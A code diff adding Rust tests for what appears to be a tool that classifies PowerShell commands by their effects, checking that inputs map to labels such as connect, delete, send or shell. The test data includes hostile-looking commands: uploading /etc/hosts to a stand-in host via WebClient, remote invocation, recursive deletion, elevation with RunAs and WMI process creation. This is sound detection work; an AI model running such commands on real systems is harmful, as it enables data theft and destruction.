@@ -423,3 +423,40 @@ fn deep_and_long_texts_are_bounded() {
         assert!(took < Duration::from_secs(4), "{}: {took:?}", &text[..20]);
     }
 }
+
+#[test]
+fn powershell_parameters_in_their_places() {
+    check(&[
+        ("icm h.example { id }", &["connect h.example ", "argv id"]),
+        ("icm -cn h.example { id }", &["connect h.example ", "argv id"]),
+        ("Remove-Item -LP /srv/x", &["delete /srv/x"]),
+        ("Remove-Item -PSPath /srv/x -Recurse", &["tree /srv/x"]),
+        ("New-Item -Type SymbolicLink -Path /srv/l -Target /etc", &["link /etc <- /srv/l"]),
+        ("Get-Content /srv/x -Head 3 | Out-Null", &["read /srv/x"]),
+        ("Trace-Command x { id }", &["argv id"]),
+        ("Register-ObjectEvent $w Changed x { id }", &["argv id"]),
+        ("Export-Csv -InputObject x /tmp/a.csv ';'", &["write /tmp/a.csv <- x"]),
+        ("Start-Process sh -Verb RunAs", &["user Administrator", "argv sh"]),
+        ("iwmi -Class Win32_Process -Name Create -ArgumentList 'id'", &["shell id"]),
+        (
+            "(New-Object Net.WebClient).UploadFile('http://h.example', 'POST', '/etc/hosts')",
+            &["send http://h.example <- /etc/hosts"],
+        ),
+        ("[IO.File]::Open('/srv/x', 'Open') | Out-Null", &["read /srv/x", "write /srv/x <- "]),
+    ]);
+}
+
+#[test]
+fn powershell_harmless_commands_of_modules() {
+    check(&[
+        ("Stop-Transcript", &[]),
+        ("gmo -ListAvailable | Out-Null", &[]),
+        ("Get-CimInstance Win32_Process -Filter 'x = 1' | Out-Null", &[]),
+        ("rmo x", &[]),
+        ("Unblock-File x.ps1", &[]),
+        ("Import-LocalizedData m", &[]),
+        ("Compare-Object 1 2 -IncludeEqual | Out-Null", &[]),
+        ("Write-Progress a b 3", &[]),
+        ("'x' | Set-Clipboard", &[]),
+    ]);
+}
